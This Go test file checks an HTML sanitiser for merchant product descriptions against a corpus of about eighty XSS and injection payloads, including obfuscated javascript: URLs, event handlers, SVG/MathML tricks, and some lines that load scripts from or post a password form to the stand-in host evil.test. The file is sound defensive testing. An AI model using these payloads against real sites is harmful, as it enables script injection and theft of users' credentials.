package richtext_test

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"galleria/commerce/richtext"
)

// corpus is what people try against sanitisers: scripts, events, addresses, styles, frames,
// forms, foreign content, broken tags, comments, and ways to hide any of them.
func corpus() []string {
	return []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.test/x.js></sCrIpT>`, `<script/x>alert(1)</script>`, `<<script>script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="/media/shop/a/b.jpg" onload="alert(1)">`, `<img/src/onerror=alert(1)>`, "<img src=`x` onerror=alert(1)>",
		`<img src="javascript:alert(1)">`, `<img src="//evil.test/pixel.gif">`, `<img src="https://evil.test/pixel.gif">`, `<img srcset="https://evil.test/p 1x">`,
		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="/media/../console/logout">`, `<img src="/media//evil.test/x">`, `<img src="/media/shop/../../console/logout">`,
		`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`,
		`<a href=" javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1)>`,
		`<math><mtext></p><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`, `<iframe src="https://evil.test">`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<object data="x.swf">`, `<embed src="x.swf">`, `<applet code=x>`, `<form action="//evil.test"><input name=password><button>ok</button></form>`, `<input autofocus onfocus=alert(1)>`,
		`<style>body{display:none}</style>`, `<p style="position:fixed;inset:0">x</p>`, `<p style="background:url(//evil.test/x)">x</p>`, `<link rel=stylesheet href=//evil.test/x.css>`,
		`<meta http-equiv=refresh content="0;url=//evil.test">`, `<base href="//evil.test/">`, `<body onload=alert(1)>`, `<video src=x onerror=alert(1)></video>`, `<details open ontoggle=alert(1)>`,
		`<marquee onstart=alert(1)>`, `<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>alert(1)</script></textarea>`,
		`<title><script>alert(1)</script></title>`, `<xmp><script>alert(1)</script></xmp>`, `<!--><script>alert(1)</script>-->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml version="1.0"?><script>alert(1)</script>`, `<p id=x class=y data-x=1 onclick=alert(1)>hi</p>`, `<p ONCLICK=alert(1)>hi</p>`, "<p on\x00click=alert(1)>hi</p>", `<a href="https://ok.test" onclick="x()" target="_self" rel="opener">x</a>`,
		`{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<p>"><script>alert(1)</script></p>`, `<p title='"><script>alert(1)</script>'>x</p>`, `<table background="javascript:alert(1)"><tr><td background="//evil.test">x`,
		`<a href="https://a.test/&quot; onmouseover=&quot;alert(1)">x</a>`, `<img src="/media/shop/a/b.jpg&quot; onerror=&quot;alert(1)">`, `<select><option><script>alert(1)</script></select>`, `<form id=x></form><button form=x formaction="javascript:alert(1)">X`,
		"\u2028<script>alert(1)</script>", "<scr\u0000ipt>alert(1)</script>", `<%<script>alert(1)</script>`, `<p>ok<`, `<`, `</p>`, `<p`, strings.Repeat("<div>", 200), strings.Repeat("<b><i>", 100) + "x",
		`5 < 7 & 8 > 6`, "第一行\n第二行\n\n第二段 & 完",
	}
}

var badURL = regexp.MustCompile(`(?i)^\s*(javascript|vbscript|data|file|blob):`)

// T108 for descriptions: what is left of the corpus has no script, event, style, frame, form
// or foreign address, and cleaning it again changes nothing.
func TestT108NothingOfTheCorpusSurvives(t *testing.T) {
	t.Parallel()
	c := richtext.New()
	allowed := map[string]bool{}
	for tag := range strings.SplitSeq("html head body p br hr h2 h3 h4 strong b em i u s sub sup blockquote ul ol li figure figcaption table thead tbody tr td th span div a img", " ") {
		allowed[tag] = true
	}
	for _, in := range corpus() {
		out := c.Clean(in)
		if again := c.Show(out); again != out {
			t.Errorf("%.60q: cleaned twice is %q, once %q", in, again, out)
		}
		doc, err := html.Parse(strings.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			if n.Type == html.CommentNode {
				t.Errorf("%.60q leaves a comment", in)
			}
			if n.Type != html.ElementNode {
				continue
			}
			if !allowed[n.Data] {
				t.Errorf("%.60q leaves <%s>: %s", in, n.Data, out)
			}
			for _, a := range n.Attr {
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "id", a.Key == "class", a.Key == "srcset":
					t.Errorf("%.60q leaves %s=%q", in, a.Key, a.Val)
				case (a.Key == "href" || a.Key == "src") && badURL.MatchString(a.Val):
					t.Errorf("%.60q leaves the address %q", in, a.Val)
				case a.Key == "src" && !strings.HasPrefix(a.Val, "/media/"):
					t.Errorf("%.60q leaves the picture %q", in, a.Val)
				}
			}
		}
	}
}

func TestWhatMerchantsWriteStays(t *testing.T) {
	t.Parallel()
	c := richtext.New()
	for _, s := range []struct{ name, in, want string }{
		{"nothing", " \n", ""},
		{"lines", "第一行\n第二行\n\n第二段", "<p>第一行<br>第二行</p><p>第二段</p>"},
		{"signs", `5 < 7 & "8"`, "<p>5 &lt; 7 &amp; &#34;8&#34;</p>"},
		{"headings and lists", "<h2>产地</h2><ul><li>云南</li></ul>", "<h2>产地</h2><ul><li>云南</li></ul>"},
		{"own pictures", `<img src="/media/shop/0123456789abcdef/0123.jpg" alt="豆子">`, `<img src="/media/shop/0123456789abcdef/0123.jpg" alt="豆子">`},
		{"alignment", `<p align="center">x</p>`, `<p align="center">x</p>`},
	} {
		if got := c.Clean(s.in); got != s.want {
			t.Errorf("%s: got %q, want %q", s.name, got, s.want)
		}
	}
}

func TestTypedTextComesBackAsTyped(t *testing.T) {
	t.Parallel()
	c := richtext.New()
	for _, in := range []string{"一行", "第一行\n第二行\n\n第二段 & <3", `"引号" 与 '单引号'`} {
		if got, ok := richtext.Plain(c.Clean(in)); !ok || got != in {
			t.Errorf("got %q %v, want %q", got, ok, in)
		}
	}
	if _, ok := richtext.Plain("<h2>x</h2>"); ok {
		t.Error("a heading is more than text")
	}
}
